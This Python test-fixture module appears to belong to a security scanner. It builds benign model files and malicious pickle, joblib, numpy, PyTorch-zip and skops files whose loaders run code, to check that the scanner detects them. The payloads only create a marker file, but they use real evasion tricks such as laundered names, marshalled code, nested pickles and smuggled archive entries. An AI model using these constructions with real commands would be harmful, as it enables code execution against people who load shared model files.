"""Malicious and benign model files, built at test time (never committed as binaries).

Malicious: real payloads that run code when their loader reads them (each writes a marker
file; ``load_all`` in a subprocess proves it), made two ways:

- fickling's injection API over real benign scikit-learn pickles (``insert_python_exec``,
  and ``insert_function_call_on_unpickled_object(compile_code=True)``: marshal + exec);
- by hand, opcode by opcode or through ``__reduce__``, one per evasive kind (importlib,
  marshal + ``types.FunctionType``, ``operator.attrgetter`` / ``methodcaller``,
  ``functools.partial``, nested pickles, ``builtins.getattr`` chains, names laundered
  through the memo or computed at load time, Python 2 names, protocol 0), and carried in
  every container: joblib, PyTorch-shaped zip, ``.npy`` object array, skops, renamed files.

Benign: pickles (protocols 0-5), joblib files (plain and compressed) and skops files of
every estimator class Garrison's models use (``garrison.detect.ml``: logistic regression,
histogram gradient boosting, isolation forest, TF-IDF and hashing vectorisers, a scaler
pipeline), trained on small random data, the shipped skops models, and common
numpy/scipy artefacts.
"""

from __future__ import annotations

import io
import marshal
import os
import pickle
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np

# --- opcode building blocks (pickle protocol 4) ------------------------------------------


def s(text: str) -> bytes:
    """Push a string (SHORT_BINUNICODE / BINUNICODE)."""
    raw = text.encode("utf-8")
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def b(data: bytes) -> bytes:
    """Push bytes (BINBYTES)."""
    return b"B" + struct.pack("<I", len(data)) + data


def g(module: str, name: str) -> bytes:
    """Push a global by STACK_GLOBAL."""
    return s(module) + s(name) + b"\x93"


def call(fn: bytes, *args: bytes) -> bytes:
    """``fn(*args)``: MARK args TUPLE REDUCE."""
    return fn + b"(" + b"".join(args) + b"tR"


def stream(body: bytes) -> bytes:
    """A whole protocol-4 pickle returning what ``body`` leaves on the stack."""
    return b"\x80\x04" + body + b"."


def touch_code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


# --- payloads ----------------------------------------------------------------------------


class _Reduce:
    """Unpickling this calls ``fn(*args)``: the plainest malicious pickle."""

    def __init__(self, fn: Callable[..., object], *args: object) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.fn, self.args


def reduce_os_system(marker: Path) -> bytes:
    return pickle.dumps(_Reduce(os.system, f"touch {marker}"), protocol=4)


def protocol0_global(marker: Path) -> bytes:
    return pickle.dumps(_Reduce(os.system, f"touch {marker}"), protocol=0)


def py2_builtin_exec(marker: Path) -> bytes:
    code = touch_code(marker).replace("'", '"')
    return f"c__builtin__\nexec\n(V{code}\ntR.".encode()


def importlib_methodcaller(marker: Path) -> bytes:
    mod = call(g("importlib", "import_module"), s("os"))
    caller = call(g("operator", "methodcaller"), s("system"), s(f"touch {marker}"))
    return stream(caller + b"(" + mod + b"tR")


def importlib_attrgetter(marker: Path) -> bytes:
    mod = call(g("importlib", "import_module"), s("os"))
    getter = call(g("operator", "attrgetter"), s("system"))
    return stream(call(getter + b"(" + mod + b"tR", s(f"touch {marker}")))


def marshal_function_type(marker: Path) -> bytes:
    code = marshal.dumps(compile(touch_code(marker), "<payload>", "exec"))
    codeobj = call(g("marshal", "loads"), b(code))
    fn = call(g("types", "FunctionType"), codeobj, b"}")
    return stream(fn + b")R")


def functools_partial(marker: Path) -> bytes:
    part = call(g("functools", "partial"), g("builtins", "exec"), s(touch_code(marker)))
    return stream(part + b")R")


def getattr_chain(marker: Path) -> bytes:
    builtins_mod = call(g("builtins", "__import__"), s("builtins"))
    exec_fn = call(g("builtins", "getattr"), builtins_mod, s("exec"))
    return stream(exec_fn + b"(" + s(touch_code(marker)) + b"tR")


def memo_laundered_names(marker: Path) -> bytes:
    """'posix' and 'system' first appear as harmless dict keys, memoized; the global is
    then named from the memo (BINGET), not from string opcodes next to it."""
    keys = b"}(" + s("posix") + b"\x94" + b"K\x01" + s("system") + b"\x94" + b"K\x02" + b"u0"
    fn = b"h\x00h\x01\x93"
    return stream(keys + fn + b"(" + s(f"touch {marker}") + b"tR")


def computed_module_name(marker: Path) -> bytes:
    """The module name is computed at load time (rot13 through the allowlisted
    ``_codecs.encode``): no string in the file names ``os``."""
    module = call(g("_codecs", "encode"), s("bf"), s("rot_13"))
    return stream(module + s("system") + b"\x93(" + s(f"touch {marker}") + b"tR")


def nested_pickle(marker: Path) -> bytes:
    inner = reduce_os_system(marker)
    return stream(call(g("_pickle", "loads"), b(inner)))


def fickling_exec(marker: Path) -> bytes:
    from fickling.fickle import Pickled

    pickled = Pickled.load(benign_pickles()["logistic-regression/p4"])
    pickled.insert_python_exec(touch_code(marker))
    return pickled.dumps()


def fickling_marshal(marker: Path) -> bytes:
    from fickling.fickle import Pickled

    pickled = Pickled.load(benign_pickles()["isolation-forest/p4"])
    pickled.insert_function_call_on_unpickled_object(
        f"def hook(obj):\n    {touch_code(marker)}\n    return obj\n", compile_code=True
    )
    return pickled.dumps()


# --- payloads in other containers ----------------------------------------------------------


def in_joblib(marker: Path) -> bytes:
    import joblib

    out = io.BytesIO()
    joblib.dump(
        {"model": _models()["logistic-regression"], "x": _Reduce(os.system, f"touch {marker}")}, out
    )
    return out.getvalue()


def in_joblib_compressed(marker: Path) -> bytes:
    import joblib

    out = io.BytesIO()
    joblib.dump([np.arange(5.0), _Reduce(os.system, f"touch {marker}")], out, compress=3)
    return out.getvalue()


def in_joblib_object_array(marker: Path) -> bytes:
    import joblib

    arr = np.array([1, _Reduce(os.system, f"touch {marker}")], dtype=object)
    out = io.BytesIO()
    joblib.dump({"w": np.arange(3.0), "objs": arr}, out)
    return out.getvalue()


def torch_zip(marker: Path) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("archive/data.pkl", reduce_os_system(marker))
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/data/0", b"\x00" * 16)
    return out.getvalue()


def npy_object_array(marker: Path) -> bytes:
    out = io.BytesIO()
    np.save(out, np.array([_Reduce(os.system, f"touch {marker}")], dtype=object), allow_pickle=True)
    return out.getvalue()


def npz_object_array(marker: Path) -> bytes:
    out = io.BytesIO()
    np.savez(
        out, w=np.arange(4.0), evil=np.array([_Reduce(os.system, f"touch {marker}")], dtype=object)
    )
    return out.getvalue()


def skops_posix_system(marker: Path) -> bytes:
    import skops.io as sio

    return sio.dumps({"format": "garrison-url/1", "hook": os.system})


def skops_smuggled_pickle(marker: Path) -> bytes:
    import skops.io as sio

    clean = sio.dumps({"w": np.arange(3.0)})
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(clean)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        dst.writestr("extra.bin", reduce_os_system(marker))
    return out.getvalue()


@dataclass(frozen=True)
class Payload:
    """One malicious file: its kind, the file name it is saved as, and how its loader
    reads it (``pickle``, ``joblib``, ``numpy``, ``zip-pickle``: what ``load_all`` runs)."""

    kind: str
    file_name: str
    build: Callable[[Path], bytes]
    loader: str = "pickle"
    source: str = "hand"


PAYLOADS: tuple[Payload, ...] = (
    Payload("fickling-exec", "fickling-exec.pkl", fickling_exec, source="fickling"),
    Payload("fickling-marshal", "fickling-marshal.pkl", fickling_marshal, source="fickling"),
    Payload("reduce-os-system", "reduce.pkl", reduce_os_system),
    Payload("protocol0", "p0.pkl", protocol0_global),
    Payload("py2-builtin-exec", "py2.pkl", py2_builtin_exec),
    Payload("importlib-methodcaller", "importlib-mc.pkl", importlib_methodcaller),
    Payload("importlib-attrgetter", "importlib-ag.pkl", importlib_attrgetter),
    Payload("marshal-functiontype", "marshal.pkl", marshal_function_type),
    Payload("functools-partial", "partial.pkl", functools_partial),
    Payload("getattr-chain", "getattr.pkl", getattr_chain),
    Payload("memo-laundered", "memo.pkl", memo_laundered_names),
    Payload("computed-name", "computed.pkl", computed_module_name),
    Payload("nested-pickle", "nested.pkl", nested_pickle),
    Payload("joblib", "model.joblib", in_joblib, loader="joblib"),
    Payload("joblib-compressed", "model-z.joblib", in_joblib_compressed, loader="joblib"),
    Payload("joblib-object-array", "objs.joblib", in_joblib_object_array, loader="joblib"),
    Payload("torch-zip", "model.pt", torch_zip, loader="zip-pickle"),
    Payload("npy-object-array", "evil.npy", npy_object_array, loader="numpy"),
    Payload("npz-object-array", "evil.npz", npz_object_array, loader="numpy"),
    Payload("pickle-renamed-skops", "url.skops", reduce_os_system),
    Payload("skops-posix-system", "hook.skops", skops_posix_system, loader="skops"),
    Payload("skops-smuggled-pickle", "smuggled.skops", skops_smuggled_pickle, loader="none"),
)

#: The six payload kinds the issue's anchor counts (picklescan and modelscan missed 2 of
#: 6, fickling none): a plain reduce, fickling's injection, and four evasive kinds.
ANCHOR_SIX = (
    "reduce-os-system", "fickling-exec", "importlib-methodcaller", "marshal-functiontype",
    "functools-partial", "nested-pickle",
)  # fmt: skip

# --- benign artefacts ----------------------------------------------------------------------


def _models() -> dict[str, object]:
    from scipy import sparse
    from sklearn.ensemble import HistGradientBoostingClassifier, IsolationForest
    from sklearn.feature_extraction.text import HashingVectorizer, TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    rng = np.random.default_rng(7)
    x = rng.normal(size=(120, 5))
    y = (x[:, 0] + 0.3 * rng.normal(size=120) > 0).astype(int)
    texts = [f"host{i}.example{i % 5}.com" for i in range(120)]
    return {
        "logistic-regression": LogisticRegression(max_iter=200).fit(x, y),
        "logistic-regression-labels": LogisticRegression().fit(x, np.where(y, "dga", "benign")),
        "hist-gradient-boosting": HistGradientBoostingClassifier(max_iter=8).fit(x, y),
        "isolation-forest": IsolationForest(n_estimators=8, random_state=0).fit(x),
        "tfidf-char": TfidfVectorizer(analyzer="char", ngram_range=(1, 3)).fit(texts),
        "hashing": HashingVectorizer(n_features=2**10),
        "scaled-pipeline": Pipeline([("s", StandardScaler()), ("m", LogisticRegression())]).fit(
            x, y
        ),
        "csr-matrix": sparse.csr_matrix(x * (x > 1)),
        "csr-array": sparse.csr_array(x * (x > 1)),
        "ndarray-f64": x,
        "ndarray-labels": np.array(["a", "bb", "ccc"]),
        "ndarray-objects": np.array(["a", 1.5, None], dtype=object),
        "record": {
            "weights": x[0],
            "classes": [0, 1],
            "name": "model",
            "rng": np.random.default_rng(1),
        },
    }


_CACHE: dict[str, dict[str, bytes]] = {}


def benign_pickles() -> dict[str, bytes]:
    """name/format -> bytes: each model as pickle (protocols 0-5), joblib (plain and zlib)."""
    if "pickles" not in _CACHE:
        import joblib

        out: dict[str, bytes] = {}
        for name, model in _models().items():
            for proto in range(6):
                out[f"{name}/p{proto}"] = pickle.dumps(model, protocol=proto)
            for compress in (0, 3):
                buf = io.BytesIO()
                joblib.dump(model, buf, compress=compress)
                out[f"{name}/joblib{'-z' if compress else ''}"] = buf.getvalue()
        _CACHE["pickles"] = out
    return _CACHE["pickles"]


def benign_files() -> dict[str, bytes]:
    """Every benign artefact: the pickles above, skops files of each model, the shipped
    skops models, and numpy/scipy files (.npy, .npz, scipy's save_npz)."""
    import skops.io as sio
    from scipy import sparse

    from garrison.govern.registry.manifest import shipped_folder

    out = dict(benign_pickles())
    for name, model in _models().items():
        if name not in ("record", "ndarray-objects"):
            out[f"{name}/skops"] = sio.dumps(model)
    for name in ("dga", "url", "email"):
        out[f"shipped-{name}/skops"] = (shipped_folder() / f"{name}.skops").read_bytes()
    models = _models()
    for name in ("ndarray-f64", "ndarray-labels", "ndarray-objects"):
        buf = io.BytesIO()
        np.save(buf, models[name], allow_pickle=True)
        out[f"{name}/npy"] = buf.getvalue()
    buf = io.BytesIO()
    np.savez_compressed(buf, a=models["ndarray-f64"], b=models["ndarray-labels"])
    out["arrays/npz"] = buf.getvalue()
    buf = io.BytesIO()
    sparse.save_npz(buf, models["csr-matrix"])
    out["csr-matrix/save_npz"] = buf.getvalue()
    return out


# --- proving the payloads are real ----------------------------------------------------------

LOAD_ALL = r"""
import io, pickle, sys, zipfile
import numpy as np
for kind, loader, path in (line.split("\t") for line in sys.stdin.read().splitlines()):
    try:
        if loader == "pickle":
            pickle.loads(open(path, "rb").read())
        elif loader == "joblib":
            import joblib; joblib.load(path)
        elif loader == "numpy":
            r = np.load(path, allow_pickle=True)
            [r[k] for k in r.files] if hasattr(r, "files") else r
        elif loader == "zip-pickle":
            with zipfile.ZipFile(path) as z:
                pickle.loads(z.read("archive/data.pkl"))
        elif loader == "skops":
            import skops.io as sio
            m = sio.load(path, trusted=sio.get_untrusted_types(file=path))
            m["hook"](f"touch {path}.marker")
    except Exception as exc:
        print(kind, type(exc).__name__, exc, file=sys.stderr)
"""


def write_payloads(folder: Path) -> list[tuple[Payload, Path, Path]]:
    """Write every payload under ``folder``: (payload, file, the marker it would create)."""
    written = []
    for payload in PAYLOADS:
        path = folder / payload.file_name
        marker = folder / f"{payload.file_name}.marker"
        path.write_bytes(payload.build(marker))
        written.append((payload, path, marker))
    return written
